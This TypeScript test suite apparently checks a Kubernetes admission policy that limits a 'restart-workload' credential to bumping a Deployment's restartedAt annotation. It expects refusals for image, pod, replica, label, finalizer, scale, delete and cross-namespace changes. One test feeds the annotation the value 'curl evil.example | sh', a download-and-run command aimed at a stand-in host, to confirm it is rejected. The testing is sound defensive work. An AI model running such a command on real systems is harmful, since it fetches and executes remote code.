import type { TestContext } from 'node:test';
import type { KubeAnswer, KubeRequest } from '../../clusters/guardrails/install/kube-request.ts';
import { done, impersonated, minted, refusedBy, rule, type Lock } from './attempt.ts';
import type { Bed } from './environment.ts';

type Operation = { op: 'add' | 'remove'; path: string; value?: unknown };

const web = '/apis/apps/v1/namespaces/shop/deployments/web';
const template = '/spec/template';
const time = `${template}/metadata/annotations/kubectl.kubernetes.io~1restartedAt`;
const set = (path: string, value: unknown): Operation[] => [{ op: 'add', path, value }];
const restart = (says: string): Lock => ({ policy: 'airlock-identities', says: `restart-workload: ${says}` });
const now = set(time, '2026-11-21T12:00:00Z');

/** Each beside the one change that is allowed, so that nothing rides along. */
const refused: [name: string, operations: Operation[], lock: Lock][] = [
  [
    'an image',
    set(`${template}/spec/containers/0/image`, 'registry.example:5000/shop/web:1'),
    restart('the pods stay'),
  ],
  ['an env literal', set(`${template}/spec/containers/0/env/0/value`, 'slow'), restart('the pods stay')],
  ['a field of the pod', set(`${template}/spec/hostNetwork`, true), restart('the pods stay')],
  ['a label of the template', set(`${template}/metadata/labels/role`, 'x'), restart("the template's labels, name")],
  [
    "the template's finalizers",
    set(`${template}/metadata/finalizers`, ['a/b']),
    restart("the template's labels, name"),
  ],
  [
    'another annotation of the template',
    set(`${template}/metadata/annotations/checksum~1config`, 'a'),
    restart("the template's annotations"),
  ],
  [
    'an annotation of the template gone',
    [{ op: 'remove', path: `${template}/metadata/annotations/checksum~1config` }],
    restart("the template's annotations"),
  ],
  ['replicas', set('/spec/replicas', 9), restart('only the template of the spec')],
  ['paused', set('/spec/paused', true), restart('only the template of the spec')],
  ['labels', set('/metadata/labels/app', 'db'), restart('labels, owners')],
  ['finalizers', set('/metadata/finalizers', ['a.example/b']), restart('labels, owners')],
  ["the owner's annotations", set('/metadata/annotations/team', 'x'), restart('annotations other')],
];

const patch = (as: KubeRequest, operations: Operation[], path = web): Promise<KubeAnswer> =>
  as({ method: 'PATCH', path: `${path}?dryRun=All`, contentType: 'application/json-patch+json', body: operations });

/** Lock 4 for `restart-workload`, with a credential that Vault minted. */
export async function restartWorkloadCases(t: TestContext, bed: Bed): Promise<void> {
  const as = await minted(bed, 'restart-workload', [rule('deployments', ['web'])]);
  await t.test("OK: the time, and Airlock's stamp", async () => {
    done(await patch(as, [...now, ...set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')]));
  });
  for (const [name, operations, lock] of refused) {
    await t.test(`refused: ${name}`, async () => refusedBy(lock, await patch(as, [...now, ...operations])));
  }
  await t.test('refused: a time that is none, no time at all', async () => {
    const wanted = restart('kubectl.kubernetes.io/restartedAt is a time');
    refusedBy(wanted, await patch(as, set(time, 'curl evil.example | sh')));
    refusedBy(wanted, await patch(as, set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')));
  });
  await t.test('refused, with RBAC out of the way: scaling, deleting, another namespace', async () => {
    const free = impersonated(bed, 'system:serviceaccount:shop:airlock-restart-workload-abcd1234');
    refusedBy(restart('only a Deployment'), await patch(free, set('/spec/replicas', 3), `${web}/scale`));
    refusedBy(restart('only a Deployment'), await free({ method: 'DELETE', path: `${web}?dryRun=All` }));
    const elsewhere = impersonated(bed, 'system:serviceaccount:other:airlock-restart-workload-abcd1234');
    refusedBy({ policy: 'airlock-identities', says: 'only in its own namespace' }, await patch(elsewhere, now));
  });
}
